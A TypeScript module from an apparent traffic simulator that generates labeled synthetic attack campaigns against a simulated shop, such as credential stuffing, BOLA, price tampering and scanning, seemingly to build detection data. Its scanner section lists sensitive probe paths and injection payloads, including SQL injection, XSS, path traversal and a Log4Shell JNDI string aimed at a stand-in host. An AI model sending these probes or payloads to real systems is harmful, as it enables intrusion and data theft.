/**
 * Attack campaigns. Each has an id (its type), a planned window after the warm-up, and actors that carry
 * `campaign` on every request they make, so labels come from what was actually emitted. `scale` multiplies
 * each campaign's size (requests, bots), not its duration.
 */
import { LoopAgent } from './benign.js';
import { type Call, type Client, type ForgeKind, makeClient, type Sim } from './engine.js';
import { cnMobile } from './pii.js';
import { Rng } from './random.js';
import { makeJwt } from './render.js';
import type { Shop } from './shop.js';
import { SEARCH_TERMS, USER_ID_BASE } from './site.js';
import { hostingIp, residentialIp, SCANNER_UAS, UA } from './vocab.js';

export const ATTACK_TYPES = [
  'crawler',
  'distributed_crawler',
  'credential_stuffing',
  'sms_bombing',
  'forged_parameters',
  'bola',
  'slow_exfiltration',
  'burst',
  'scanner',
] as const;
export type AttackType = (typeof ATTACK_TYPES)[number];
export const isAttackType = (s: string): s is AttackType => (ATTACK_TYPES as readonly string[]).includes(s);

const MIN = 60_000;
const HOUR = 60 * MIN;

/** What each campaign does, and its nominal duration (shortened to fit a short run). */
export const ATTACKS: Record<AttackType, { description: string; durationMs: number }> = {
  crawler: {
    description: 'one cloud IP enumerating product ids in order (~1,500 requests)',
    durationMs: 45 * MIN,
  },
  distributed_crawler: {
    description:
      'product ids enumerated from ~300 residential IPs, each a handful of requests, below any per-IP threshold',
    durationMs: 3 * HOUR,
  },
  credential_stuffing: {
    description: 'a botnet of ~200 IPs trying ~3,000 leaked username/password pairs (mostly 401)',
    durationMs: HOUR,
  },
  sms_bombing: {
    description: 'SMS code requests aimed at 20 victim phones from 4 IPs / 6 devices (~600 requests)',
    durationMs: 40 * MIN,
  },
  forged_parameters: {
    description:
      '3 accounts tampering prices, sending non-positive quantities, invalid payment signatures and guessing coupons',
    durationMs: 2 * HOUR,
  },
  bola: {
    description: "one logged-in account reading ~800 other customers' profiles by id (BOLA / IDOR)",
    durationMs: HOUR,
  },
  slow_exfiltration: {
    description: 'a stolen staff token paging the order export, one request every ~20 s for hours',
    durationMs: 4 * HOUR,
  },
  burst: { description: 'one IP firing ~50 requests/s at search for two minutes', durationMs: 2 * MIN },
  scanner: { description: 'a vulnerability scanner probing ~1,200 paths and payloads', durationMs: 15 * MIN },
};

export interface CampaignPlan {
  id: AttackType;
  description: string;
  start: number;
  end: number;
}

/** Spreads the selected campaigns over [warmupEnd, end), in ATTACK_TYPES order, each fitting the window. */
export function planCampaigns(
  types: readonly AttackType[],
  seed: number,
  warmupEnd: number,
  end: number,
): CampaignPlan[] {
  const r = new Rng(seed).derive('campaign-plan');
  const window = end - warmupEnd;
  const ordered = ATTACK_TYPES.filter((t) => types.includes(t));
  return ordered.map((id, k) => {
    const dur = Math.min(ATTACKS[id].durationMs, window * 0.9);
    const frac = Math.min(1, (k + r.uniform(0.1, 0.9)) / ordered.length);
    const start = warmupEnd + frac * (window - dur);
    return { id, description: ATTACKS[id].description, start, end: start + dur };
  });
}

const n = (base: number, scale: number): number => Math.max(1, Math.round(base * scale));

/** Requests at fixed times: `times` sorted, `make(i)` builds the i-th call (null skips it). */
function timed(
  sim: Sim,
  rng: Rng,
  client: Client,
  times: number[],
  make: (i: number, a: LoopAgent) => Call | null,
): void {
  if (times.length === 0) return;
  let i = 0;
  sim.add(
    new LoopAgent(times[0]!, rng, client, (a, s) => {
      const call = make(i, a);
      if (call !== null) a.emit(s, call);
      i++;
      return i < times.length ? times[i]! - a.t : -1;
    }),
  );
}

/** `count` times spread over [start, end) with jitter, in order. */
function spread(r: Rng, start: number, end: number, count: number, jitter = 0.6): number[] {
  const step = (end - start) / count;
  const out: number[] = [];
  for (let i = 0; i < count; i++) out.push(start + step * (i + 0.5 + (r.next() - 0.5) * jitter));
  return out;
}

function randomTimes(r: Rng, start: number, end: number, count: number): number[] {
  const out: number[] = [];
  for (let i = 0; i < count; i++) out.push(r.uniform(start, end));
  return out.sort((a, b) => a - b);
}

export function scheduleCampaign(
  sim: Sim,
  shop: Shop,
  seed: number,
  plan: CampaignPlan,
  scale: number,
): void {
  const r = new Rng(seed).derive(`campaign:${plan.id}`);
  const { start, end } = plan;
  const id = plan.id;
  const attacker = (actor: string, ip: string, ua: string, extra: Partial<Client> = {}): Client =>
    makeClient({ kind: 'attacker', actor: `${id}:${actor}`, ip, ua, campaign: id, ...extra });

  switch (id) {
    case 'crawler': {
      const c = attacker('crawler', hostingIp(r), r.chance(0.5) ? 'python-requests/2.31.0' : UA.browsers[0]);
      const count = n(1500, scale);
      timed(sim, r.derive('a'), c, spread(r, start, end, count), (i, a) =>
        a.rng.chance(0.08)
          ? shop.reviews(a.rng, 1 + i, 1)
          : { ...shop.product(a.rng, 1 + i, false), referer: null },
      );
      break;
    }
    case 'distributed_crawler': {
      const ips = n(300, scale);
      let next = 1;
      for (let k = 0; k < ips; k++) {
        const x = r.derive(`bot${k}`);
        const c = attacker(`bot${k}`, residentialIp(x, true), x.pick(UA.browsers));
        const v2 = x.chance(0.5);
        timed(sim, x, c, randomTimes(x, start, end, x.int(6, 10)), (_i, a) => {
          const pid = next++;
          return {
            ...shop.product(
              a.rng,
              pid > shop.site.maxProductId ? 1 + (pid % shop.site.maxProductId) : pid,
              v2,
            ),
            referer: null,
          };
        });
      }
      break;
    }
    case 'credential_stuffing': {
      const bots = Array.from({ length: n(200, scale) }, (_, k) => {
        const x = r.derive(`bot${k}`);
        return attacker(
          `bot${k}`,
          x.chance(0.3) ? hostingIp(x) : residentialIp(x, x.chance(0.5)),
          x.pick([...UA.tools, ...UA.browsers]),
        );
      });
      const attempts = n(3000, scale);
      timed(sim, r.derive('a'), bots[0]!, randomTimes(r, start, end, attempts), (_i, a) => {
        const x = a.rng;
        a.client.ip = x.pick(bots).ip;
        // Leaked combo lists: mostly addresses this shop never saw; some real customers, a few of whom reused the password.
        let username: string;
        let ok = false;
        let sub = '0';
        if (x.chance(0.12)) {
          const uid = USER_ID_BASE + x.int(0, shop.site.userCount - 1);
          username = shop.site.person(uid).username;
          ok = x.chance(0.03);
          sub = String(uid);
        } else {
          username = `${x.pick(['john', 'anna', 'wei', 'li', 'max', 'sara', 'tom', 'lucy'])}${x.int(1, 99_999)}@${x.pick(['gmail.com', 'yahoo.com', 'qq.com', 'hotmail.com'])}`;
        }
        const bot = bots.find((b) => b.ip === a.client.ip) ?? bots[0]!;
        a.client.actor = bot.actor;
        a.client.ua = bot.ua;
        // Accounts taken over are the campaign's users, though the bots never used the tokens they got.
        if (ok) sim.campaign(id).users.add(sub);
        return shop.login(x, username, ok, sub, a.t).call;
      });
      break;
    }
    case 'sms_bombing': {
      const ips = Array.from({ length: 4 }, () => hostingIp(r));
      const devices = Array.from({ length: 6 }, () => r.uuid());
      const victims = Array.from({ length: 20 }, () => cnMobile(r));
      const last = new Map<string, number>();
      const c = attacker('bomber', ips[0]!, UA.apps[2], { deviceId: devices[0]! });
      timed(sim, r.derive('a'), c, randomTimes(r, start, end, n(600, scale)), (_i, a) => {
        const x = a.rng;
        a.client.ip = x.pick(ips);
        a.client.deviceId = x.pick(devices);
        const phone = x.pick(victims);
        // The site allows one code per phone per minute: the rest are refused with 429.
        const limited = (last.get(phone) ?? -Infinity) > a.t - 60_000;
        if (!limited) last.set(phone, a.t);
        return shop.smsCode(x, phone, x.pick(['login', 'register']), limited);
      });
      break;
    }
    case 'forged_parameters': {
      const count = 3;
      for (let k = 0; k < count; k++) {
        const x = r.derive(`acct${k}`);
        const uid = USER_ID_BASE + x.int(0, shop.site.userCount - 1);
        const token = makeJwt(x, String(uid), Math.floor(start / 1000), 'shop');
        const c = attacker(`acct${k}`, residentialIp(x, true), x.pick(UA.browsers), { token, h2: true });
        const kinds: ForgeKind[] = [];
        for (let i = 0; i < n(15, scale); i++) kinds.push('tampered_price');
        for (let i = 0; i < n(7, scale); i++) kinds.push('negative_quantity');
        for (let i = 0; i < n(10, scale); i++) kinds.push('invalid_signature');
        for (let i = 0; i < n(100, scale); i++) kinds.push('coupon_bruteforce');
        // Interleaved with ordinary browsing, so the account looks alive.
        const plan: (ForgeKind | null)[] = x.shuffle([
          ...kinds,
          ...Array<null>(Math.round(kinds.length * 0.3)).fill(null),
        ]);
        const times = randomTimes(x, start, end, plan.length);
        timed(sim, x, c, times, (i, a) => forged(shop, a.rng, plan[i]!, a.t));
      }
      break;
    }
    case 'bola': {
      const x = r.derive('acct');
      const uid = USER_ID_BASE + x.int(0, shop.site.userCount - 1);
      const token = makeJwt(x, String(uid), Math.floor(start / 1000), 'shop');
      const c = attacker('acct', residentialIp(x, true), UA.tools[2], { token });
      const count = n(800, scale);
      const first = USER_ID_BASE + x.int(0, Math.max(0, shop.site.userCount - count));
      timed(sim, x, c, spread(x, start, end, count), (i, a) => {
        const target = first + i;
        const kind: ForgeKind | null = target === uid ? null : 'foreign_object';
        const y = a.rng.next();
        if (y < 0.2) return shop.addresses(a.rng, target, kind);
        if (y < 0.25) return shop.cards(a.rng, target, kind);
        return shop.profile(a.rng, target, kind);
      });
      break;
    }
    case 'slow_exfiltration': {
      const x = r.derive('thief');
      const token = makeJwt(x, 'staff-900002', Math.floor(start / 1000), 'admin');
      const c = attacker('thief', residentialIp(x, false), UA.browsers[4], { token });
      const from = new Date(start - 30 * 24 * HOUR).toISOString().slice(0, 10);
      const times: number[] = [];
      // Every ~20 s (uniform 14-26 s), for the whole window; scale stretches nothing, it adds a second thief.
      for (let t = start; t < end; t += x.uniform(14_000, 26_000)) times.push(t);
      timed(sim, x, c, times, (i, a) => shop.exportOrders(a.rng, from, i + 1));
      if (scale >= 2) {
        const y = r.derive('thief2');
        const c2 = attacker('thief2', residentialIp(y, false), UA.browsers[5], { token });
        timed(
          sim,
          y,
          c2,
          times.map((t) => t + 7_000),
          (i, a) => shop.profile(a.rng, USER_ID_BASE + ((i * 7) % shop.site.userCount), 'foreign_object'),
        );
      }
      break;
    }
    case 'burst': {
      const c = attacker('burst', hostingIp(r), 'Go-http-client/1.1');
      const count = n(6000, scale);
      const times = spread(r, start, end, count, 0.9);
      const limitFrom = start + (end - start) * 0.25;
      timed(sim, r.derive('a'), c, times, (_i, a) => {
        const call = { ...shop.search(a.rng, a.rng.pick(SEARCH_TERMS), a.rng.int(1, 5)), referer: null };
        // The gateway's rate limit catches up after the first half minute.
        if (a.t > limitFrom && a.rng.chance(0.7))
          return {
            ...call,
            status: 429,
            body: '{"error":"too_many_requests"}',
            bytesOut: undefined,
            latency: 0.4,
          };
        return call;
      });
      break;
    }
    case 'scanner': {
      const c = attacker('scanner', hostingIp(r), r.pick(SCANNER_UAS));
      const count = n(1200, scale);
      timed(sim, r.derive('a'), c, spread(r, start, end, count, 1), (i, a) => scannerProbe(shop, a.rng, i));
      break;
    }
  }
}

/** One forged request (or, for null, an ordinary product view) by a forged-parameters account. */
function forged(shop: Shop, r: Rng, kind: ForgeKind | null, now: number): Call {
  const pid = shop.pickProduct(r);
  const price = shop.site.product(pid).price;
  const v2 = r.chance(0.5);
  switch (kind) {
    case 'tampered_price': {
      const fake = Math.max(0.01, Math.round(price * r.pick([0, 0.01, 0.1]) * 100) / 100);
      // v1 trusts the client's price (201: the fraud works); v2 re-prices and rejects the mismatch.
      return shop.createOrder(
        r,
        { id: r.uuid(), productId: pid, qty: r.int(1, 5), price: fake, coupon: null },
        v2,
        shop.site.productExists(pid) ? (v2 ? 400 : 201) : 404,
        kind,
      );
    }
    case 'negative_quantity':
      return shop.createOrder(
        r,
        { id: r.uuid(), productId: pid, qty: r.pick([-1, -5, 0, -100]), price, coupon: null },
        v2,
        null,
        kind,
      );
    case 'invalid_signature': {
      const orderId = r.uuid();
      const amount = shop.amountFor(pid, 1, null);
      const bad = r.chance(0.5) ? r.hex(64) : shop.site.sign(orderId, amount, 'CNY', Math.floor(now / 1000));
      // Half random signatures; half a genuine signature over the real amount, sent with a lower amount.
      const sent = bad.length === 64 && r.chance(0.5) ? amount : (Number(amount) / 10).toFixed(2);
      return shop.pay(r, orderId, sent, now, sent === amount ? r.hex(64) : bad, kind);
    }
    case 'coupon_bruteforce':
      return shop.coupon(
        r,
        r.chance(0.01) ? 'VIP20' : r.code(r.pick([6, 8])),
        shop.amountFor(pid, 1, null),
        kind,
      );
    default:
      return shop.product(r, pid, v2);
  }
}

const PROBES = [
  '/.env',
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/.DS_Store',
  '/wp-login.php',
  '/wp-admin/',
  '/xmlrpc.php',
  '/phpmyadmin/',
  '/pma/',
  '/admin',
  '/admin/login',
  '/administrator/',
  '/manager/html',
  '/console',
  '/actuator',
  '/actuator/env',
  '/actuator/heapdump',
  '/server-status',
  '/config.json',
  '/config.php.bak',
  '/backup.zip',
  '/db.sql',
  '/dump.sql',
  '/.aws/credentials',
  '/api/swagger.json',
  '/swagger-ui.html',
  '/v2/api-docs',
  '/graphql',
  '/api/graphql',
  '/debug/pprof/',
  '/cgi-bin/luci',
  '/HNAP1/',
  '/solr/admin/',
  '/jenkins/login',
  '/api/v1/debug/config',
  '/api/v1/admin/users',
  '/api/v1/admin/export/orders',
  '/internal/metrics',
  '/internal/health',
  '/index.php?s=/Index/\\think\\app/invokefunction',
  '/?XDEBUG_SESSION_START=phpstorm',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
] as const;

const PAYLOADS = [
  "' OR '1'='1",
  '1 UNION SELECT username,password FROM users--',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '1;sleep(5)',
  "admin'--",
];

/** A scanner request: known-sensitive paths first, then payloads in real parameters, then random guesses. */
function scannerProbe(shop: Shop, r: Rng, i: number): Call {
  if (i < PROBES.length) {
    const path = PROBES[i]!.replace(/\\/g, '%5C');
    if (path === '/api/v1/debug/config') return shop.debugConfig(r);
    if (path === '/internal/metrics') return shop.metrics(r);
    if (path === '/internal/health') return shop.health(r);
    if (path.startsWith('/api/v1/admin/users'))
      return { route: 'adminUsers', target: path, status: 401, body: '{"error":"unauthorized"}', latency: 1 };
    if (path.startsWith('/api/v1/admin/export'))
      return {
        route: 'exportOrders',
        target: path,
        status: 401,
        body: '{"error":"unauthorized"}',
        latency: 1,
      };
    return {
      route: null,
      target: path,
      status: path.startsWith('/.git') || path === '/.env' ? 403 : 404,
      body: '{"error":"not_found"}',
      latency: r.uniform(0.3, 2),
    };
  }
  const y = r.next();
  const payload = encodeURIComponent(r.pick(PAYLOADS)).replace(/'/g, '%27');
  if (y < 0.35)
    return {
      ...shop.search(r, 'x', 1),
      target: `/api/v1/search?q=${payload}`,
      status: r.chance(0.3) ? 400 : 200,
      bytesOut: 120,
    };
  if (y < 0.55)
    return {
      route: 'product',
      target: `/api/v1/products/${payload}`,
      status: 400,
      body: '{"error":"bad_request"}',
      latency: 1,
    };
  if (y < 0.65)
    return {
      route: 'login',
      target: '/api/v1/auth/login',
      status: 400,
      body: '{"error":"bad_request"}',
      requestBody: `{"username":"${r.pick(["admin'--", 'admin'])}","password":"x"}`,
      latency: 2,
    };
  const word = r.pick([
    'old',
    'test',
    'dev',
    'backup',
    'tmp',
    'staging',
    'api',
    'v3',
    'internal',
    'private',
    'upload',
    'files',
    'logs',
  ]);
  const ext = r.pick(['', '.php', '.bak', '.zip', '.json', '.xml', '/']);
  return {
    route: null,
    method: r.chance(0.1) ? 'POST' : 'GET',
    target: `/${word}${r.chance(0.3) ? `/${r.pick(['admin', 'config', 'users', 'db'])}` : ''}${ext}`,
    status: 404,
    body: '{"error":"not_found"}',
    latency: r.uniform(0.3, 2),
  };
}
